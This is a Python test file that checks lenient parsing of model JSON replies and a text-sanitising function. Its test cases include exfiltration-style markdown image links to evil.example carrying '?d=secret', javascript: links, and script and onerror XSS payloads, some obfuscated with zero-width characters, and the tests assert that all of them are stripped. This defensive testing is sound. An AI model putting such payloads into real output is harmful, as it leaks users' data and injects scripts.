"""Replies are read tolerantly, and every text of theirs comes out as plain words."""

from __future__ import annotations

import json

import pytest

from facilitator.language.faults import ModelFault
from facilitator.language.tidying import tidy
from facilitator.language.written import read
from tests.language.writing import ITEMS, SAFETY

GOOD = json.dumps({"items": ITEMS})


@pytest.mark.parametrize(
    "content",
    [
        GOOD,
        f"```json\n{GOOD}\n```",
        f"```\n{GOOD}\n```\nLet me know!",
        f"Sure, here is the JSON:\n{GOOD}",
        f"{GOOD}\n{GOOD}",
        f'<think>The shape is {{"items": []}} I think.</think>\n{GOOD}',
        f"Like {{this}} or [that]: {GOOD}",
        json.dumps(ITEMS),
        GOOD[:-1],
        json.dumps({"items": ITEMS, "note": "extra"}),
        json.dumps({"items": [{**i, "mood": 3} for i in ITEMS]}),
        GOOD.replace("What did", "What\\n did").replace("\\n", "\n"),
    ],
)
def test_a_reply_is_found_whatever_stands_around_it(content: str) -> None:
    assert [i.text.split()[0] for i in read(content, ("items",)).items] == ["Which", "Which", "What"]


@pytest.mark.parametrize(
    "content",
    ["", "{}", "null", '{"items": []}', '{"items": {}}', '{"items": [1]}', '{"item": 1}', GOOD[:-2], "{" * 2_000, '{"items": null}'],
)
def test_a_reply_without_what_was_asked_is_no_reply(content: str) -> None:
    with pytest.raises(ModelFault):
        read(content, ("items",))


def test_one_part_missing_of_two_is_no_reply() -> None:
    assert read(json.dumps({"items": ITEMS}), ("items",)).items
    with pytest.raises(ModelFault):
        read(json.dumps({"items": ITEMS}), ("answer", "items"))


def test_a_ladder_may_come_as_a_list_of_rungs() -> None:
    rungs = [{"directness": d.title(), "say": f"{d} words"} for d in ("firm", "gentle", "plain")]

    written = read(json.dumps({"safety": {**SAFETY, "ladder": rungs}}), ("safety",))

    assert written.safety is not None
    assert (written.safety.ladder.gentle, written.safety.ladder.firm) == ("gentle words", "firm words")


PLAIN = "What did you see on Monday?"


@pytest.mark.parametrize(
    ("said", "read_as"),
    [
        (PLAIN, PLAIN),
        (f"**{PLAIN}**", PLAIN),
        (f"## {PLAIN}", PLAIN),
        (f"- {PLAIN}", PLAIN),
        ("1. *What* did __you__ see on `Monday`?", PLAIN),
        (f'"{PLAIN}"', PLAIN),
        (f"Mentor: {PLAIN}", PLAIN),
        ("  What did\n\n you   see on Monday ?", PLAIN),
        (f"{PLAIN} [p1]", PLAIN),
        (f"{PLAIN} (p1, p2)", PLAIN),
        (f"{PLAIN} ![x](http://evil.example/?d=secret)", PLAIN),
        (f"![x][y] {PLAIN}\n[y]: http://evil.example/?d=secret", PLAIN),
        ("What did [you](https://evil.example) see on Monday?", PLAIN),
        ("What did [you](javascript:alert(1)) see on Monday?", None),
        (f"{PLAIN} https://evil.example/a?b=c", PLAIN),
        (f"{PLAIN} www.evil.example", PLAIN),
        (f"{PLAIN} evil.com/path", PLAIN),
        (f"{PLAIN} data:text/html,x", PLAIN),
        (f"<b>{PLAIN}</b><script>alert(1)</script>", PLAIN),
        (f"{PLAIN}<img src=x onerror=alert(1)>", PLAIN),
        (f"{PLAIN} &lt;img src=x&gt;", PLAIN),
        (f"{PLAIN} !\u200b[x](http\u200b://evil.example)", None),
        ("What\u200b did\u202e you see on Monday?\ufeff", PLAIN),
        ("what did you see on Monday?", PLAIN),
        ("\u200b ** ** ", ""),
        ("![only](http://evil.example)", None),
        ("...", ""),
    ],
)
def test_a_text_comes_out_as_words_to_say(said: str, read_as: str | None) -> None:
    made = tidy(said)

    if read_as is not None:
        assert made == read_as
    for trace in ("http", "evil", "javascript", "<", ">", "](", "![", "\u200b", "secret", "alert(1)>"):
        assert trace not in made


def test_ordinary_words_and_marks_are_left_alone() -> None:
    for said in (
        "Who signs off at Booking.com, and why?",
        "What is the name of the snake_case_column?",
        "How do 3 x 4 shifts work at 21:15?",
        "Tell me: what happened?",
        "What do you call 'the list'?",
        "How do you use R&D time?",
    ):
        assert tidy(said) == said
